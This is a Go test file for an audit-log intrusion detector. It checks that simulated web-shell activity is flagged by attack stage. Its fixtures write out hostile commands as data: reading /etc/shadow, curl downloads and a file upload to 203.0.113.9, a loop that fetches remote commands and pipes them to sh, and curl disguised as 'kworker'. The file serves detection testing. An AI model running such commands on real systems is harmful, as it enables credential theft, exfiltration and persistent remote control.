package detect

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
)

// TestServiceRunsForRequest: a local service (a root ops agent) that runs
// a shell at once after accepting a connection the web server's own
// worker made runs it for the web request (SSRF into an internal API):
// the shell is judged as the web server's child would be. A command it
// runs after an accept no worker's connect preceded (its own dashboard)
// is not the web's.
func TestServiceRunsForRequest(t *testing.T) {
	for _, c := range []struct {
		name      string
		worker    bool // the web worker connects just before the accept
		dashboard bool // another client's accept comes between
		want      bool
	}{
		{"the worker's connect, the agent's accept, its shell", true, false, true},
		{"no worker's connect before the accept", false, false, false},
		{"another client's accept between", true, true, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			s.exec(700, 1, 0, "root", "/opt/ops", "/usr/bin/python3.11", "python3", "/opt/ops/agent.py")
			accept := func(port int) {
				e.Observe(s.next(&parser.Event{Kind: parser.KindAccept, Syscall: "accept4", Success: true, PID: 700, PPID: 1,
					UID: parser.NewID(0), EUID: parser.NewID(0), Exe: "/usr/bin/python3.11", Peer: parser.Addr{Family: "inet", IP: "127.0.0.1", Port: port}}), s.tree)
			}
			if c.worker {
				e.Observe(s.connect(200, 1, 33, "/usr/sbin/php-fpm8.2", "127.0.0.1", 8061), s.tree)
			}
			accept(52058)
			if c.dashboard {
				s.t = s.t.Add(300 * time.Millisecond)
				accept(52070)
			}
			fs := e.Observe(s.exec(701, 700, 0, "root", "/opt/ops", "/usr/bin/dash", "/bin/sh", "-c", "head -n 5 /etc/shadow"), s.tree)
			f := findingOf(fs, "web-server-exploitation")
			if (f != nil) != c.want {
				t.Fatalf("web-server-exploitation on the agent's shell: %v, want %v (%v)", f != nil, c.want, ids(fs))
			}
			if f != nil && !strings.Contains(f.Reason, "inferred") {
				t.Errorf("reason %q does not say the link is inferred", f.Reason)
			}
		})
	}
}

// TestAtJobFiresForIntrusion: a job the web shell queues with at runs
// later below atd as the same account; atd runs nothing but queued jobs,
// so its shell is taken as the job (inferred), once per queued job.
func TestAtJobFiresForIntrusion(t *testing.T) {
	e, s := webShellScene(t)
	q := e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/at", "at", "-f", "/tmp/.j", "now", "+", "1", "minute"), s.tree)
	if f := findingOf(q, "crontab-by-web-user"); f == nil || f.Stage != StagePersistence {
		t.Fatalf("the queue: %v, want crontab-by-web-user on stage 5", ids(q))
	}
	s.t = s.t.Add(time.Minute)
	s.exec(800, 1, 0, "root", "/", "/usr/sbin/atd", "/usr/sbin/atd", "-f")
	run := func(pid int) []*Finding {
		e.Observe(s.exec(pid, 800, 33, "www-data", "/var/www", "/usr/bin/dash", "sh"), s.tree)
		return e.Observe(s.exec(pid+1, pid, 33, "www-data", "/var/www", "/usr/bin/curl", "curl", "-s", "-o", "/tmp/.k", "http://203.0.113.9/k"), s.tree)
	}
	first := run(810)
	if len(first) == 0 || !strings.Contains(first[0].Reason, "queued job") {
		t.Errorf("the job's download: %v %q, want a finding whose reason names the queued job", ids(first), first[0].Reason)
	}
	s.t = s.t.Add(time.Hour)
	if second := run(820); len(second) > 0 && strings.Contains(second[0].Reason, "queued job") {
		t.Errorf("a second atd run took the one queued job again: %q", second[0].Reason)
	}
}

// TestAtFamily: Debian's atq and atrm are at under other names (the
// exec's image is /usr/bin/at for all three): listing the queue is not
// queueing a job, removing one is cleanup (stage 8), and atd deleting the
// job file it starts is the job running, not the intrusion's cleanup.
func TestAtFamily(t *testing.T) {
	for _, c := range []struct {
		args  []string
		stage Stage // 0: no crontab-by-web-user finding
	}{
		{[]string{"at", "-M", "-f", "/var/lib/.j", "now", "+", "1", "minute"}, StagePersistence},
		{[]string{"batch"}, StagePersistence},
		{[]string{"atq"}, 0},
		{[]string{"at", "-l"}, 0},
		{[]string{"at", "-c", "3"}, 0},
		{[]string{"atrm", "2"}, StageExfiltrationImpact},
		{[]string{"at", "-d", "2"}, StageExfiltrationImpact},
		{[]string{"/usr/bin/atrm", "2", "3"}, StageExfiltrationImpact},
	} {
		e, s := webShellScene(t)
		f := findingOf(e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/at", c.args...), s.tree), "crontab-by-web-user")
		switch {
		case c.stage == 0 && f != nil:
			t.Errorf("%q: %s on stage %d, want no finding (it queues nothing)", c.args, f.Title, f.Stage)
		case c.stage != 0 && (f == nil || f.Stage != c.stage):
			t.Errorf("%q: %v, want crontab-by-web-user on stage %d", c.args, f, c.stage)
		case c.stage == StageExfiltrationImpact && !strings.Contains(f.Title, "Removed"):
			t.Errorf("%q: titled %q, want the removal said", c.args, f.Title)
		}
	}
	e, s := webShellScene(t)
	e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/at", "at", "-f", "/tmp/.j", "now"), s.tree)
	const job = "/var/spool/cron/atjobs/a0000101c8da89"
	if w := e.Observe(s.file(parser.KindFileWrite, 202, 201, 33, "/usr/bin/at", job, true), s.tree); findingOf(w, "web-persistence-file-write") == nil {
		t.Fatalf("the job file's write: %v, want web-persistence-file-write", ids(w))
	}
	s.exec(800, 1, 0, "root", "/", "/usr/sbin/atd", "/usr/sbin/atd", "-f")
	s.t = s.t.Add(time.Minute)
	if d := e.Observe(s.file(parser.KindUnlink, 810, 800, 0, "/usr/sbin/atd", job, true), s.tree); findingOf(d, "own-file-removed") != nil {
		t.Errorf("atd deleting the job it starts: %v, want no cleanup finding", ids(d))
	}
}

// TestPlantedProgramUsedAgain: a program the intrusion copied into place
// fires as the plant on its first run by what hooked it; run again with
// other arguments it is the tool in use, named as the system program it
// copies and placed by what it does; with the same arguments, the hook
// firing again.
func TestPlantedProgramUsedAgain(t *testing.T) {
	if got := copySource("/usr/bin/cp", []string{"cp", "/usr/bin/curl", "/usr/local/lib/.k/kworker"}); got != "/usr/bin/curl" {
		t.Errorf("copySource = %q", got)
	}
	for _, args := range [][]string{{"cp", "-t", "/x", "/usr/bin/curl"}, {"cp", "a", "b", "/x/"}, {"mv", "/usr/bin/curl", "/x"}} {
		if got := copySource("/usr/bin/"+args[0], args); got != "" {
			t.Errorf("copySource(%q) = %q, want none", args, got)
		}
	}
	e, s := webShellScene(t)
	const tool = "/usr/local/lib/.k/kworker"
	w := e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/cp", "cp", "/usr/bin/curl", tool), s.tree)
	if findingOf(w, RuleProgramPlanted) == nil {
		t.Fatalf("the copy: %v, want %s", ids(w), RuleProgramPlanted)
	}
	s.exec(900, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
	s.exec(901, 900, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", tool+" -s http://203.0.113.9/t")
	f1 := findingOf(e.Observe(s.exec(902, 901, 33, "www-data", "/var/www", tool, tool, "-s", "http://203.0.113.9/t"), s.tree), RulePlantedFileRun)
	if f1 == nil || f1.Stage != StagePersistence || f1.Title != "Planted Persistence Fired" {
		t.Fatalf("first run: %+v, want the plant firing on stage 5", f1)
	}
	f2 := findingOf(e.Observe(s.exec(903, 901, 33, "www-data", "/var/www", tool, tool, "-s", "-F", "f=@/tmp/.d.tgz", "http://203.0.113.9/u"), s.tree), RulePlantedFileRun)
	if f2 == nil || f2.Title != "Planted Program Used Again" || f2.Stage != StageExfiltrationImpact {
		t.Fatalf("second run: %+v, want the tool in use, placed as the curl upload it is (stage 8)", f2)
	}
	// the hook calling it again as it was configured to (the same argv:
	// sshd's keys command per key offered, cron's line every minute) is
	// the plant firing again, not the tool in use
	f3 := findingOf(e.Observe(s.exec(904, 901, 33, "www-data", "/var/www", tool, tool, "-s", "http://203.0.113.9/t"), s.tree), RulePlantedFileRun)
	if f3 == nil || f3.Stage != StagePersistence || f3.Title != "Planted Persistence Fired" {
		t.Errorf("third run, the first's argv again: %+v, want the plant firing again on stage 5", f3)
	}
	// a shell left under init whose loop runs the planted tool is the
	// intrusion's: what it starts acts for it (an ssh with a found key)
	loop := s.exec(950, 1, 0, "root", "/var/tmp", "/usr/bin/dash", "sh", "-c", "while :; do t=$("+tool+" -s http://203.0.113.9/t); echo \"$t\" | sh; sleep 1; done")
	e.Observe(loop, s.tree)
	s.exec(951, 950, 0, "root", "/var/tmp", "/usr/bin/dash", "sh")
	lat := e.Observe(s.exec(952, 951, 0, "root", "/var/tmp", "/usr/bin/ssh", "ssh", "-i", "/home/svc/.ssh/id_publish", "deploy@10.0.0.7", "id"), s.tree)
	if findingOf(lat, "lateral-remote-access-from-web") == nil {
		t.Errorf("the loop's task's ssh: %v, want lateral-remote-access-from-web (the loop runs the planted tool)", ids(lat))
	}
}

// TestPlantedProgramRunByItsDaemon: a daemon that hands each event to
// the program it hooks (incrond's $#, the file that changed) calls it
// with other arguments every time: the same daemon running the plant
// again is the plant firing again, not the tool in use (shop-compare:
// incrond's second run of the planted launcher, for the next customer's
// saved comparison).
func TestPlantedProgramRunByItsDaemon(t *testing.T) {
	e, s := webShellScene(t)
	const tool = "/usr/local/lib/.k/kworker"
	e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/cp", "cp", "/usr/bin/curl", tool), s.tree)
	s.exec(960, 1, 0, "root", "/", "/usr/sbin/incrond", "/usr/sbin/incrond")
	for i, file := range []string{"c1.php", "c2.php"} {
		s.t = s.t.Add(10 * time.Second)
		f := findingOf(e.Observe(s.exec(961+i, 960, 0, "root", "/", tool, tool, file), s.tree), RulePlantedFileRun)
		if f == nil || f.Stage != StagePersistence || f.Title != "Planted Persistence Fired" {
			t.Errorf("incrond's run %d (%s): %+v, want the plant firing on stage 5", i+1, file, f)
		}
	}
}

func TestRunsPath(t *testing.T) {
	const tool = "/usr/local/lib/.k/kworker"
	for _, c := range []struct {
		sc   string
		want bool
	}{
		{tool + " -s http://x/t", true},
		{"while :; do t=$(" + tool + " -s http://x/t); sleep 1; done", true},
		{"cd /tmp && " + tool, true},
		{"if true; then " + tool + " -s; fi", true},
		{"setsid " + tool + " &", true},
		{"ls -la " + tool, false},
		{"rm -f " + tool + "; echo done", false},
		{"sha256sum " + tool + "x", false},
		{tool + "x -s", false},
	} {
		if got := runsPath(c.sc, tool); got != c.want {
			t.Errorf("runsPath(%q) = %v, want %v", c.sc, got, c.want)
		}
	}
}

// TestServiceRunsForUnixRequest: a service on a UNIX socket is reached
// with a connect no rule set audits; the web worker's accept of its
// request, and the service's local accept milliseconds later, stand for
// it (plotbook-noticepreview: the web shell's worker sent a uwsgi packet
// to the treasurer's vassal, whose worker ran the command as plotcash).
// What the service runs as an account of its own, neither root nor the
// web server's, is that account's rights reached through it: lateral
// movement (T1210), said as inferred.
func TestServiceRunsForUnixRequest(t *testing.T) {
	for _, c := range []struct {
		name   string
		worker bool   // the web worker takes a request just before
		uid    uint32 // the service's account
		want   bool
	}{
		{"the worker's request, another account's service, its shell", true, 2182, true},
		{"no worker's request before the accept", false, 2182, false},
		{"a service of the web account: the application's own", true, 33, false},
		{"a root daemon accepting from every process", true, 0, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			user := map[uint32]string{0: "root", 33: "www-data", 2182: "cash"}[c.uid]
			s.exec(800, 1, c.uid, user, "/srv/cash", "/usr/bin/uwsgi-core", "uwsgi-core", "--ini", "cash.ini")
			accept := func(pid int, uid uint32, exe string) {
				e.Observe(s.next(&parser.Event{Kind: parser.KindAccept, Syscall: "accept4", Success: true, PID: pid, PPID: 1,
					UID: parser.NewID(uid), EUID: parser.NewID(uid), Exe: exe, Peer: parser.Addr{Family: "unix"}}), s.tree)
			}
			if c.worker {
				accept(200, 33, "/usr/sbin/php-fpm8.2")
			}
			accept(800, c.uid, "/usr/bin/uwsgi-core")
			fs := e.Observe(s.exec(801, 800, c.uid, user, "/srv/cash", "/usr/bin/dash", "/bin/sh", "-c", "id > /dev/shm/.x/d; cp /srv/cash/ledger.csv /dev/shm/.x/l"), s.tree)
			f := findingOf(fs, "web-server-exploitation")
			if lateral := f != nil && f.Stage == StageLateralMovement; lateral != c.want {
				// (the web account's own shell is judged by its account,
				// as any: not as a service's)
				t.Fatalf("the service's shell placed as lateral movement: %v, want %v (%v)", lateral, c.want, ids(fs))
			}
			if !c.want {
				return
			}
			if !slices.Contains(f.Attack, "T1210") {
				t.Errorf("stage %d, attack %v: want lateral movement (6) with T1210", f.Stage, f.Attack)
			}
			if !strings.Contains(f.Reason, "inferred") {
				t.Errorf("reason %q does not say the link is inferred", f.Reason)
			}
		})
	}
}
